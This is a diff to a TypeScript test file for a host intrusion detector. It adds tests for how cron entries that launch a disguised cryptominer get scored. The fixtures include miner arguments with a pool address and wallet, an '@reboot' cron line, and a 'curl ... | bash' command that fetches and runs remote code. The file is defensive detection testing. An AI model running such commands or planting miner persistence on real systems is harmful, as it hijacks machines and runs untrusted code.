@@ -4,7 +4,11 @@ import type { CoalEvent, EventAction } from '../model/event.js';
 import type { Finding } from '../model/finding.js';
 import { defaultPolicy } from '../model/policy.js';
 import type { Signal, SignalClass, SignalKind, Strength } from '../model/signal.js';
+import { createClassifier } from '../signals/index.js';
 import { signalFor } from '../signals/make.js';
+import { DEFAULT_RULE_DIRS } from '../signals/rules.js';
+import { loadRules } from '../signals/sigma/index.js';
+import { testIntel } from '../signals/test-events.js';
 import { createDetector } from './index.js';
 
 const T0 = Date.UTC(2025, 2, 14, 2, 0, 0);
@@ -33,9 +37,14 @@ function classify(event: CoalEvent, out: Signal[]): void {
   if (s) out.push(signalFor(event, { ...s, by: 'test', explanation: `${s.kind} (test)` }));
 }
 
-function run(events: CoalEvent[], state: CoalEvent[] = [], policy = defaultPolicy()): Finding[] {
+function run(
+  events: CoalEvent[],
+  state: CoalEvent[] = [],
+  policy = defaultPolicy(),
+  classifier: (event: CoalEvent, out: Signal[]) => void = classify,
+): Finding[] {
   const findings: Finding[] = [];
-  const engine = createDetector({ policy, classify, onFinding: (f) => findings.push(f) });
+  const engine = createDetector({ policy, classify: classifier, onFinding: (f) => findings.push(f) });
   for (const e of state) engine.pushState(e);
   for (const e of events) engine.push(e);
   engine.end();
@@ -103,6 +112,68 @@ test('a strong miner signal alone is low, with every missing telemetry named', (
   assert.equal(findings.length, 1);
   assert.equal(findings[0].severity, 'low');
   assert.equal(findings[0].gaps.length, 3);
+});
+
+const realClassify = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
+const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
+const RENAMED = '/usr/local/bin/kcached';
+const MINER_ARGS = `-o 198.51.100.23:443 -u ${XMR} -p x -B`;
+
+/** A cron entry as the crontab source gives it: the line, its command and the target it launches. */
+function entryOf(command: string, target?: string): CoalEvent {
+  return ev(-1, 'persistence-entry', {
+    process: { command_line: command, user: { name: 'www-data' } },
+    file: { path: '/var/spool/cron/crontabs/www-data', line: `@reboot ${command}` },
+    coalmine: {
+      ts: T0 - 60_000,
+      format: 'crontab',
+      ref: { file: 'crontabs/www-data', line: 4 },
+      persistence: target ? { mechanism: 'cron', target } : { mechanism: 'cron' },
+    },
+  });
+}
+
+test('a cron entry that runs a miner is alone a low finding on the host, naming the entry; a generic entry is none', () => {
+  const findings = run([], [entryOf(`${RENAMED} ${MINER_ARGS} >/dev/null 2>&1`, RENAMED)], undefined, realClassify);
+  assert.equal(findings.length, 1);
+  const [f] = findings;
+  assert.equal(f.severity, 'low');
+  assert.equal(f.entity, 'host:web-01');
+  // one entry is one observation: its persistence holds reach, what it will run holds no process leg of its own
+  assert.deepEqual(f.legs, ['reach']);
+  assert.deepEqual(f.facts.persistence, ['crontabs/www-data:4']);
+  const miner = f.evidence.filter((e) => e.kind === 'miner-process');
+  assert.ok(miner.length > 0);
+  for (const e of miner) {
+    assert.equal(e.source, 'crontabs/www-data:4');
+    assert.match(e.explanation, /^what the cron entry \/var\/spool\/cron\/crontabs\/www-data:4 will run: /);
+  }
+  for (const command of [
+    'curl -fsSL http://203.0.113.9/ld.sh | bash',
+    '/usr/sbin/logrotate /etc/logrotate.conf',
+    '/usr/local/bin/backup.sh --target /srv/backup',
+  ])
+    assert.deepEqual(run([], [entryOf(command)], undefined, realClassify), [], command);
+});
+
+test("an exec of the entry's target joins the entry once: one finding on the process, none again on the host", () => {
+  const exec = ev(0, 'exec', {
+    process: { pid: 4130, name: 'kcached', executable: RENAMED, command_line: `${RENAMED} ${MINER_ARGS}` },
+  });
+  const findings = run(
+    [exec, ...cpuSamples(4130, 1, 30, 390)],
+    [entryOf(`${RENAMED} ${MINER_ARGS} >/dev/null 2>&1`, RENAMED)],
+    undefined,
+    realClassify,
+  );
+  assert.equal(findings.length, 1, findings.map((f) => `${f.entity} ${f.severity}`).join('; '));
+  const [f] = findings;
+  assert.equal(f.entity, 'process:web-01:4130');
+  assert.equal(f.severity, 'high');
+  assert.equal(f.evidence.filter((e) => e.class === 'persistence').length, 1);
+  // the exec shows its own command: what the entry will run is not said again
+  assert.ok(!f.evidence.some((e) => e.explanation.startsWith('what the cron entry')));
+  assert.ok(f.evidence.some((e) => e.kind === 'miner-process' && e.entity === 'process:web-01:4130'));
 });
 
 test('a relaunch under cron (new pid, same flagged executable) joins the first cluster', () => {
